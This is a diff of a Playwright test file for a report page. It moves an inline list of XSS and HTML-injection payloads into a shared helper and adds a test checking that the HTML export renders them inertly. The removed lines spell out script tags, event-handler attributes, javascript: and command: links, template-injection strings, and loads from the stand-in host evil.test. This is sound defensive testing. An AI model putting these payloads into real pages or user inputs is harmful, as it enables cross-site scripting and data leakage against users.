@@ -5,77 +5,14 @@ import path from 'node:path';
 import type { Browser, Page } from 'playwright-core';
 import type { RunEvent } from '../../src/core/state/events.ts';
 import { applyEvent } from '../../src/core/state/applyEvent.ts';
+import { renderHtml } from '../../src/core/report/html/html.ts';
+import { buildReport as reportOf } from '../../src/core/report/report.ts';
 import { emptyState } from '../../src/core/state/runState.ts';
+import { hostileTexts, NOT_OURS } from '../support/hostileTexts.ts';
 import { buildReport, openBrowser, openReport } from '../support/reportPage.ts';
 import { generatedEvents, generatedState } from '../support/runStates.ts';
 
-/** Ways out of plain text; `wrapped` makes each into many. */
-const VECTORS = [
-  '<img src=x onerror="pwned=1">',
-  '<script>pwned=1</script>',
-  '<svg onload=pwned=1>',
-  '<svg><script href=http://evil.test/x.js></script></svg>',
-  '<meta http-equiv=refresh content="0;url=http://evil.test/">',
-  '<base href=http://evil.test/>',
-  '<iframe src="javascript:top.pwned=1"></iframe>',
-  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
-  '<object data=http://evil.test/x></object>',
-  '<embed src=http://evil.test/x>',
-  '<link rel=stylesheet href=http://evil.test/x.css>',
-  '<link rel=dns-prefetch href=//evil.test>',
-  '<style>@import url(http://evil.test/x.css)</style>',
-  '<div style="background:url(http://evil.test/x.png)">x</div>',
-  '<form action=http://evil.test/><input autofocus onfocus=pwned=1></form>',
-  '<details open ontoggle=pwned=1>',
-  '<video src=http://evil.test/x onerror=pwned=1>',
-  '<math><mtext><img src=x onerror=pwned=1></mtext></math>',
-  '<a href="javascript:pwned=1" autofocus>x</a>',
-  '<a href="command:workbench.action.quit">x</a>',
-  '[x](javascript:pwned=1)',
-  '[x](command:workbench.action.terminal.new)',
-  '![x](http://evil.test/x.png)',
-  '[x]: http://evil.test/ "y"',
-  '<http://evil.test/>',
-  '${pwned=1}',
-  '{{constructor.constructor("pwned=1")()}}',
-  '"><script>pwned=1</script>',
-  '</title></textarea></style><script>pwned=1</script>',
-];
-const WRAPPINGS = [
-  ...[
-    '$',
-    '**$**',
-    '`$`',
-    '[F1] $',
-    '- $',
-    '# $',
-    '> $',
-    "'$",
-    '"$',
-    '\\$',
-    '&lt;$&gt;',
-    '\u202e$',
-  ],
-  ...[']]>$', '<!--$', '--><b>$', '</p>$', '\u0000$', '$\n$', '*$', '_$_', '<p title="$">', '|$|'],
-  ...['](http://evil.test/?$', '</blockquote>$', '<![CDATA[$', '%3Cscript%3E$', '\ufeff$', '~~$~~'],
-  ...[
-    '[$](http://evil.test/)',
-    '![$](http://evil.test/x.png)',
-    '<$',
-    '{$}',
-    '`​`$',
-    '\u2028$',
-    '$$',
-  ],
-];
-const wrapped = VECTORS.flatMap(vector => WRAPPINGS.map(w => w.replaceAll('$', () => vector)));
-
-/** Elements and attributes that only a text read as HTML could have made. */
-const NOT_OURS = [
-  ...['img', 'iframe', 'object', 'embed', 'form', 'base', 'svg', 'math', 'video', 'details'],
-  ...['[onerror]', '[onload]', '[srcdoc]', '[style*="url("]'],
-  ...['script:not([nonce])', 'link:not([nonce])', 'a:not([href^="#"])'],
-].join();
+const wrapped = hostileTexts('http://evil.test').filter((_, i) => i % 3 === 0);
 
 interface InPage {
   pwned?: unknown;
@@ -125,6 +62,21 @@ describe('the report page', () => {
       assert.deepEqual([strange, went, await ofPage(page, w => w.pwned)], [0, [], undefined]);
       await page.close();
     }
+  });
+
+  it('G12 T29 T32 nor does a page of them in the HTML export', async () => {
+    const payloads = wrapped.slice(0, 300);
+    const state = generatedState({ end: 'partial', failing: [3], findings: 300, payloads });
+    const page = await browser.newPage();
+    const went: string[] = [];
+    page.on('request', request => went.push(request.url()));
+    await page.setContent(renderHtml(reportOf(state, [])));
+    assert.ok((await page.locator('mark, blockquote, q, .finding').count()) > 100);
+    assert.deepEqual(
+      [await page.locator(NOT_OURS).count(), went, await ofPage(page, w => w.pwned)],
+      [0, [], undefined],
+    );
+    await page.close();
   });
 
   it('is worked with the keyboard alone: move, open, reveal, copy, search, clear', async () => {
